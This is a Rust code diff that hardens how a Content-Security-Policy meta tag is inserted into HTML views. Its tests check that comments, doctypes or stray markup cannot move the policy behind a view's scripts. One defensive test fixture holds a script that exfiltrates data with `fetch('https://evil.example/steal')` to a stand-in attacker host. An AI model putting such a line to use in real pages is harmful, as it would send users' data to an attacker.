@@ -129,33 +129,59 @@ impl ViewResource {
     }
 }
 
-/// `html` with a `<meta http-equiv="Content-Security-Policy">` for `policy` first in its `<head>`
-/// (one is made when there is none).
+/// `html` with a `<meta http-equiv="Content-Security-Policy">` for `policy` as its first element:
+/// after the leading whitespace, comments and doctype only, so the parser puts it first in the head
+/// (made implicitly when needed) before any of the view's scripts, and nothing of the view (a
+/// comment, a script, an attribute holding `<head>`) can decide where it lands. The view's own
+/// `<html>` and `<head>` tags that follow are absorbed by the parser: `<html>`'s attributes still
+/// apply, `<head>`'s are dropped.
 pub fn with_policy(html: &str, policy: &str) -> String {
     let content = policy.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
     let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{content}\">");
-    match open_tag_end(html, "head") {
-        Some(end) => format!("{}{meta}{}", &html[..end], &html[end..]),
-        None => match open_tag_end(html, "html") {
-            Some(end) => format!("{}<head>{meta}</head>{}", &html[..end], &html[end..]),
-            None => format!("<head>{meta}</head>{html}"),
-        },
+    // A parser that kept a byte-order mark would read it as text, which opens the body before the meta.
+    let html = html.strip_prefix('\u{feff}').unwrap_or(html);
+    let at = prologue_end(html);
+    format!("{}{meta}{}", &html[..at], &html[at..])
+}
+
+/// Where the prologue ends: the whitespace, complete comments and doctype the HTML parser reads
+/// before any element. An unterminated comment or doctype runs to the end of the document, so the
+/// prologue stops before it.
+fn prologue_end(html: &str) -> usize {
+    let mut end = 0;
+    loop {
+        let rest = &html[end..];
+        let markup = rest.trim_start_matches(['\t', '\n', '\x0c', '\r', ' ']);
+        let blank = rest.len() - markup.len();
+        match comment_length(markup).or_else(|| doctype_length(markup)) {
+            Some(length) => end += blank + length,
+            None => return end + blank,
+        }
     }
 }
 
-/// Where the first `<name ...>` opening tag ends (just past its `>`), matched without regard to case.
-fn open_tag_end(html: &str, name: &str) -> Option<usize> {
-    let lower = html.to_ascii_lowercase();
-    let opener = format!("<{name}");
-    let mut from = 0;
-    while let Some(found) = lower[from..].find(&opener) {
-        let after = from + found + opener.len();
-        match lower.as_bytes().get(after) {
-            Some(b'>' | b' ' | b'\t' | b'\n' | b'\r' | b'/') => return lower[after..].find('>').map(|end| after + end + 1),
-            _ => from = after,
-        }
+/// The length of the complete comment `markup` starts with, ended where the HTML tokenizer ends it:
+/// `<!-->` and `<!--->` are whole comments, and `--!>` closes one as `-->` does.
+fn comment_length(markup: &str) -> Option<usize> {
+    let body = markup.strip_prefix("<!--")?;
+    if body.starts_with('>') {
+        return Some("<!-->".len());
     }
-    None
+    if body.starts_with("->") {
+        return Some("<!--->".len());
+    }
+    let close = ["-->", "--!>"].iter().filter_map(|close| body.find(close).map(|at| at + close.len())).min()?;
+    Some("<!--".len() + close)
+}
+
+/// The length of the complete doctype `markup` starts with (any case); its first `>` ends it, even
+/// inside quotes.
+fn doctype_length(markup: &str) -> Option<usize> {
+    let opener = markup.get(.."<!doctype".len())?;
+    if !opener.eq_ignore_ascii_case("<!doctype") {
+        return None;
+    }
+    markup.find('>').map(|at| at + 1)
 }
 
 fn safe_sources(entries: &[String]) -> Vec<&str> {
@@ -254,15 +280,59 @@ mod tests {
         assert_eq!(policy.matches("script-src").count(), 1);
     }
 
+    /// `with_policy(html, "x")` is `expected` with `{META}` standing for the policy's meta.
+    fn check(html: &str, expected: &str) {
+        let meta = "<meta http-equiv=\"Content-Security-Policy\" content=\"x\">";
+        assert_eq!(with_policy(html, "x"), expected.replace("{META}", meta), "for {html:?}");
+    }
+
     #[test]
-    fn the_policy_is_the_first_element_of_the_head() {
-        let html = "<!DOCTYPE html><HTML lang=en><Head data-x=\"1\"><script>evil()</script></head><body><header>x</header></body></html>";
-        let out = with_policy(html, "default-src 'none'");
-        assert!(out.starts_with("<!DOCTYPE html><HTML lang=en><Head data-x=\"1\"><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'\"><script>"), "{out}");
-        let headless = with_policy("<html><body><header>h</header></body></html>", "x");
-        assert!(headless.starts_with("<html><head><meta http-equiv=\"Content-Security-Policy\" content=\"x\"></head><body><header>"), "{headless}");
-        assert!(with_policy("<p>bare</p>", "x").starts_with("<head><meta"));
+    fn the_policy_is_the_first_element_after_the_doctype() {
+        // Before the view's own `<html>` (it used to go inside `<head>`): the parser opens html and
+        // head for the meta, merges the view's `<html>` into them and ignores its `<head>` tag.
+        check(
+            "<!DOCTYPE html><HTML lang=en><Head data-x=\"1\"><script>evil()</script></head><body></body></html>",
+            "<!DOCTYPE html>{META}<HTML lang=en><Head data-x=\"1\"><script>evil()</script></head><body></body></html>",
+        );
+        check("<!doctype html>\n<html><head><title>t</title>", "<!doctype html>\n{META}<html><head><title>t</title>");
+        check("<html><body><header>h</header></body></html>", "{META}<html><body><header>h</header></body></html>");
+        check("<p>bare</p>", "{META}<p>bare</p>");
+        check("", "{META}");
         assert!(with_policy("<head>", "a\"b").contains("content=\"a&quot;b\""));
+    }
+
+    #[test]
+    fn a_comment_before_the_document_cannot_hide_the_policy() {
+        let hostile = "<!--<head>--><html><head><script>fetch('https://evil.example/steal')</script></head></html>";
+        let out = with_policy(hostile, "x");
+        let meta_at = out.find("<meta").expect("a meta");
+        assert!(out.find("-->").is_some_and(|comment_end| comment_end < meta_at), "the meta is out of the comment: {out}");
+        assert!(out.find("<script").is_some_and(|script| meta_at < script), "the meta comes before the script: {out}");
+        check(hostile, "<!--<head>-->{META}<html><head><script>fetch('https://evil.example/steal')</script></head></html>");
+    }
+
+    #[test]
+    fn comments_end_where_the_parser_ends_them() {
+        check("<!--><head><script>s()</script>", "<!-->{META}<head><script>s()</script>");
+        check("<!---><head><script>s()</script>", "<!--->{META}<head><script>s()</script>");
+        check("<!---->\n<!-- a --!><script>s()</script>", "<!---->\n<!-- a --!>{META}<script>s()</script>");
+        check("<!-- <head> -- - --><script>s()</script>", "<!-- <head> -- - -->{META}<script>s()</script>");
+        check("\u{feff} <!-- a -->\n<!DocType html><!--b--><script>", " <!-- a -->\n<!DocType html><!--b-->{META}<script>");
+        // The parser ends a doctype at its first `>`, even inside quotes.
+        check("<!DOCTYPE html SYSTEM \"<head>\"><script>", "<!DOCTYPE html SYSTEM \"<head>{META}\"><script>");
+    }
+
+    #[test]
+    fn an_unterminated_comment_gets_the_policy_before_it() {
+        check("<!-- <head><script>s()</script>", "{META}<!-- <head><script>s()</script>");
+        check("<!DOCTYPE html><!-- <head><script>s()</script>", "<!DOCTYPE html>{META}<!-- <head><script>s()</script>");
+    }
+
+    #[test]
+    fn no_markup_of_the_view_decides_where_the_policy_goes() {
+        check("<script>s()</script><html><head>", "{META}<script>s()</script><html><head>");
+        check("<html data-x=\"<head>\"><script>s()</script>", "{META}<html data-x=\"<head>\"><script>s()</script>");
+        check("<?xml version=\"1.0\"?><head><script>s()</script>", "{META}<?xml version=\"1.0\"?><head><script>s()</script>");
     }
 
     #[test]
